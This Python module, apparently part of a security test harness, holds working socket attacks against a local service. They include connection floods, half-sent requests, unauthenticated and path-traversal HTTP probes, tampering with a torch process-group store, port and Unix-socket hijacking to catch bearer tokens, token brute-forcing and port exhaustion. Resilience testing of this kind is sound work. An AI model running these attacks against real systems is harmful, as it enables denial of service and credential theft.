"""Attacks on sockets: floods, half requests, ports, tokens."""

import contextlib
import os
import socket
import struct
import time

from figures.second.base import HELD, ORDERS, attack, connected, listening, secret, talk

#: Abstract names that are taken here.
OWN_NAMES = set()


def _hold(text, count):
    for port in listening():
        for _ in range(count):
            with contextlib.suppress(OSError):
                s = connected(port, 0.05)
                s.send(text)
                HELD.append(s)
    return []


@attack
def hold_connections():
    return _hold(b"", 100)


@attack
def half_headers():
    return (
        _hold(b"GET /v1/status HTTP/1.1\r\nx:", 40)
        + _hold(struct.pack("<I", 4000) + b"{", 20)
        + _hold(b"PRI * HTTP/2.0\r\n\r\nSM", 20)
    )


@attack
def one_byte_at_a_time():
    for port in listening():
        with contextlib.suppress(OSError), connected(port) as s:
            for byte in b"POST /v1/join HTTP/1.1\r\nContent-Length: 99999999\r\n"[:20]:
                s.send(bytes([byte]))
                time.sleep(0.001)
    return []


@attack
def garbage():
    gained = []
    for _ in range(5):
        gained += talk(os.urandom(4096), 0.05)
    return gained


@attack
def huge_lengths():
    gained = []
    for text in (
        struct.pack("<I", 0xFFFFFFFF),
        struct.pack("<Q", 1 << 62),
        b"\xff" * 64,
        bytes([0, 0, 16, 0, 1]),
        b"POST /v1/agent HTTP/1.1\r\nContent-Length: 18446744073709551615\r\n\r\n",
    ):
        gained += talk(text, 0.05)
    return gained


@attack
def http_without_a_token():
    gained = []
    for path in (
        "/",
        "/v1/status",
        "/v1/jobs",
        "/v1/events",
        "/v1/metrics",
        "/metrics",
        "/v1/agent",
        "/v1/stop",
        "/../store/token",
    ):
        for head in (
            "",
            "Authorization: Bearer x\r\n",
            f"Authorization: Bearer {'a' * 64}\r\n",
            f"x: {'y' * 70_000}\r\n",
        ):
            text = f"GET {path} HTTP/1.1\r\nHost: 127.0.0.1\r\n{head}\r\n".encode()
            for port in listening():
                with contextlib.suppress(OSError), connected(port, 0.1) as s:
                    s.sendall(text)
                    answer = s.recv(65536)
                    gained += secret(answer, f"port {port}")
                    if answer.startswith(b"HTTP/1.1 200") and len(answer) > 200:
                        gained.append(f"port {port} {path}: answered {answer[:80]!r}")
    return gained


@attack
def process_group_store():
    """Reads and sets the keys by which ranks meet, in torch's protocol."""
    gained = []

    def text(key):
        return struct.pack("<Q", len(key)) + key

    for port in listening():
        with contextlib.suppress(OSError), connected(port, 0.1) as s:
            s.sendall(b"\0" + struct.pack("<I", 0x3C85F7CE))
            for key in (b"default_pg/0//cpu//0/0", b"/0//cpu//0/rank_0", b"worker_count"):
                s.sendall(b"\1" + text(key) + text(b"attacked"))
            s.sendall(b"\7")
            answer = s.recv(8)
            if len(answer) == 8 and struct.unpack("<Q", answer)[0] < 1 << 20:
                gained.append(f"port {port}: the store answered with {struct.unpack('<Q', answer)[0]} keys")
    return gained


@attack
def reset_connections():
    for port in listening():
        for _ in range(20):
            with contextlib.suppress(OSError):
                s = connected(port, 0.05)
                s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
                s.close()
    return []


@attack
def take_ports():
    """Listens on the same ports if the kernel allows it, and on those that were just released."""
    gained = []
    seen = set(ORDERS.setdefault("ports", []))
    for port in set(listening()) | seen:
        ORDERS["ports"] = sorted(seen | set(listening()))[-64:]
        for host in ("127.0.0.1", "0.0.0.0", "127.0.0.2", "::"):
            family = socket.AF_INET6 if ":" in host else socket.AF_INET
            with contextlib.suppress(OSError):
                s = socket.socket(family)
                s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
                s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
                s.bind((host, port))
                s.listen(16)
                s.setblocking(False)
                HELD.append(s)
    for s in HELD:
        if isinstance(s, socket.socket):
            with contextlib.suppress(OSError, ValueError):
                s.setblocking(False)
                peer, _ = s.accept()
                peer.settimeout(0.1)
                data = peer.recv(65536)
                gained += secret(data, "a connection meant for us")
                if b"earer" in data:
                    gained.append("a token was sent to the wrong listener")
    return gained


@attack
def unix_sockets():
    gained = []
    with contextlib.suppress(OSError):
        with open("/proc/net/unix") as f:
            rows = f.read().splitlines()[1:]
        for row in rows:
            words = row.split()
            if len(words) > 7 and words[7] not in OWN_NAMES and ("everstep" in words[7] or words[7].startswith("@")):
                name = "\0" + words[7][1:] if words[7].startswith("@") else words[7]
                for kind in (socket.SOCK_STREAM, socket.SOCK_SEQPACKET, socket.SOCK_DGRAM):
                    with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX, kind) as s:
                        s.settimeout(0.1)
                        s.connect(name)
                        gained.append(f"{words[7]}: connected")
    return gained


@attack
def abstract_names():
    for name in ("everstep", f"everstep-{ORDERS['victim']}", ORDERS["job"]):
        with contextlib.suppress(OSError):
            s = socket.socket(socket.AF_UNIX)
            s.bind("\0" + name)
            OWN_NAMES.add("@" + name)
            s.listen(5)
            HELD.append(s)
    return []


@attack
def guess_tokens():
    gained = []
    for port in listening():
        for i in range(30):
            with contextlib.suppress(OSError), connected(port, 0.05) as s:
                s.sendall(f"GET /v1/status HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {i:064x}\r\n\r\n".encode())
                if s.recv(64).startswith(b"HTTP/1.1 200"):
                    gained.append(f"port {port}: token {i} was taken")
    return gained


@attack
def use_up_ports():
    """Takes ephemeral ports of loopback, as many as descriptors allow."""
    for _ in range(300):
        with contextlib.suppress(OSError):
            s = socket.socket()
            s.bind(("127.0.0.1", 0))
            HELD.append(s)
    return []
